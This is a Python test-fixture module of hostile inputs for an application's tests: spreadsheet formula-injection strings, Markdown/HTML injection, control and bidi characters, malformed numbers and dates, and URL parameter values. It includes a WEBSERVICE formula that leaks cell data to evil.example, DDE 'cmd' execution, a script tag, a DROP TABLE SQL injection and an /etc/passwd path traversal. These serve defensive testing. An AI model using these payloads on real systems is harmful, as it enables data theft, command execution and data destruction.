"""Payloads shared by the hostile tests: text, numbers, dates and URL parameters."""

from __future__ import annotations

# Every character a spreadsheet treats as the start of a formula (OWASP CSV injection), and
# the control characters that some spreadsheet programs strip before reading the cell.
FORMULA_LEADS: tuple[str, ...] = (
    "=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20",
)  # fmt: skip

FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/","点我")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/?"&A1)',
    "-2+3+cmd|' /C calc'!A0",
)

# Markdown and HTML that must show as typed, never as a link, image, heading or emoji.
MARKDOWN: tuple[str, ...] = (
    "[请重新登录](http://evil.example/)",
    "![x](http://evil.example/p.png)",
    "<img src=http://evil.example/p.png>",
    "<script>alert(1)</script>",
    ":smile: :material/warning:",
    "line\n===",
    "# 标题",
    "**粗体** _斜体_ ~~删除~~",
    "`code` $x^2$",
    "<http://evil.example/>",
    "[a]: http://evil.example/\n[a]",
    ":red[红色] :blue-background[蓝]",
)

# Characters text fields must refuse or strip: controls, non-characters, bidi overrides.
BAD_CHARACTERS: tuple[str, ...] = (
    "\x00",
    "\x07",
    "\x1b",
    "\x7f",  # DEL
    "\x85",  # NEL
    "\u2028",  # line separator
    "\u2029",  # paragraph separator
    "\u202e",  # right-to-left override
    "\u2066",  # left-to-right isolate
    "\ufeff",  # BOM / zero-width no-break space inside text
    "\ufffe",
    "\uffff",
    "\ud800",  # lone surrogate
    "\U0001fffe",
)

NUMBERS: tuple[str, ...] = (
    "1.5",
    "-1",
    "1e309",
    "nan",
    "inf",
    "9" * 400,
    "0x10",
    "１２",  # full-width digits
    "1,000",
    "",
    " ",
)

DATES: tuple[str, ...] = (
    "1900-01-01",
    "2019-12-31",
    "2999-12-31",
    "2025-02-30",
    "2025-13-01",
    "0000-00-00",
    "today",
    "2025/02/30",
)

# Query-parameter values for every page (region, period, record, lang, slides ...).
URL_VALUES: tuple[str, ...] = (
    *MARKDOWN,
    "'; DROP TABLE activities; --",
    "../../etc/passwd",
    "2025Q9",
    "9999-99",
    "-1",
    "1e9",
    "99999999999999999999999",
    "%00",
    "\u202e",
    "x" * 5000,
)
